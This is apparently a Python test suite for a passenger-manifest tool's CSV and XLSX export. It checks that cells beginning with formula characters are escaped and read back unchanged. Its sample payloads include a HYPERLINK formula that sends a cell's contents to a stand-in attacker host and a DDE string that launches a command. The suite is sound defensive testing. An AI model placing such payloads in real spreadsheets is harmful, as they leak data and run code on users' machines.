"""CSV exports cannot inject formulas into a spreadsheet, and a manifest CSV that Clearway wrote
reads back as exactly the same people (docs/spreadsheets.md, "Formulas")."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from clearway.domain.people import MANIFEST_COLUMNS
from clearway.domain.snapshot import Passenger
from clearway.formats.csv_formula import FORMULA_STARTS, neutralise, restore
from clearway.formats.manifest import read_manifest_bytes
from clearway.formats.spreadsheet import findings_csv, manifest_csv
from tests.factories import row_values

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def read_back(data: bytes) -> list[Passenger]:
    manifest = read_manifest_bytes(data, Path("export.csv"))
    assert manifest.unreadable == ()
    return [Passenger.from_values(row.values, row.extra) for row in manifest.rows]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_manifest_cell_that_would_start_a_formula_is_neutralised(value: str) -> None:
    passenger = Passenger.from_values(row_values(1, with_mrz=False, notes=value, given_names=value))
    written = cells(manifest_csv([passenger]))
    row = dict(zip(written[0], written[1], strict=True))
    assert row["notes"] == "'" + value and row["given_names"] == "'" + value
    assert not any(cell[:1] in FORMULA_STARTS for line in written for cell in line)
    assert read_back(manifest_csv([passenger])) == [passenger]


@pytest.mark.parametrize("value", DANGEROUS)
def test_a_findings_cell_that_would_start_a_formula_is_neutralised(value: str) -> None:
    finding = {
        "code": "FIELD_FORMAT_INVALID",
        "severity": "error",
        "scope": "passenger",
        "seq": 1,
        "field": value,
        "message": {"en": value, "es": value},
        "details": {},
    }
    written = cells(findings_csv([finding]))
    assert written[1][4:7] == ["'" + value] * 3
    assert not any(cell[:1] in FORMULA_STARTS for line in written for cell in line)


def test_an_unknown_column_named_like_a_formula_is_neutralised_and_read_back() -> None:
    passenger = Passenger.from_values(row_values(1), {"=cmd|' /C calc'!A0": "-x"})
    written = cells(manifest_csv([passenger]))
    assert written[0][-1] == "'=cmd|' /C calc'!A0" and written[1][-1] == "'-x"
    assert read_back(manifest_csv([passenger])) == [passenger]


def test_values_already_starting_with_a_quote_keep_every_character() -> None:
    for value in ("'=1", "''+x", "'t Hooft", "'", "''", "'-"):
        passenger = Passenger.from_values(row_values(1, with_mrz=False, surname=value, notes=value))
        assert read_back(manifest_csv([passenger])) == [passenger], value


def test_a_hand_made_csv_keeps_a_leading_apostrophe_that_escapes_nothing() -> None:
    assert restore("'t Hooft") == "'t Hooft"
    assert restore("O'Brien") == "O'Brien"
    assert restore("'") == "'"
    # The spreadsheet convention: a quote before = + - @ marks text, and is not part of it.
    assert restore("'-5") == "-5"


@given(st.text())
def test_restore_undoes_neutralise(value: str) -> None:
    assert restore(neutralise(value)) == value
    assert neutralise(value)[:1] not in FORMULA_STARTS


# Cell text as people and tools write it, with what spreadsheets take as formulas at the start.
_cell_text = st.text(
    alphabet=st.one_of(
        st.sampled_from(list("=+-@'\t\", ;<")),
        st.characters(codec="utf-8", exclude_categories=("Cs", "Cc", "Zl", "Zp")),
    ),
    max_size=12,
)
_leading = st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "''=", "'+"])


@st.composite
def _passengers(draw: st.DrawFn) -> list[Passenger]:
    count = draw(st.integers(1, 4))
    people = []
    for seq in range(1, count + 1):
        values = {column: draw(_leading) + draw(_cell_text) for column in MANIFEST_COLUMNS}
        values["seq"] = str(seq)  # a row needs something besides blanks to be a row
        people.append(Passenger.from_values(values))
    return people


@settings(max_examples=150, deadline=None)
@given(_passengers())
def test_a_manifest_csv_export_reads_back_as_the_same_people(people: list[Passenger]) -> None:
    assert read_back(manifest_csv(people)) == people


def test_xlsx_cells_are_text_never_formulas_header_included() -> None:
    import openpyxl  # type: ignore[import-untyped]

    from clearway.formats.spreadsheet import manifest_xlsx

    passenger = Passenger.from_values(row_values(1, with_mrz=False, notes="=1+1"), {"=2+2": "@x"})
    book = openpyxl.load_workbook(io.BytesIO(manifest_xlsx([passenger], [])))
    sheet = book.worksheets[0]
    for row in sheet.iter_rows(min_row=1, max_row=2):
        for cell in row:
            assert cell.data_type != "f", (cell.coordinate, cell.value)
    manifest = read_manifest_bytes(manifest_xlsx([passenger], []), Path("export.xlsx"))
    assert [Passenger.from_values(row.values, row.extra) for row in manifest.rows] == [passenger]
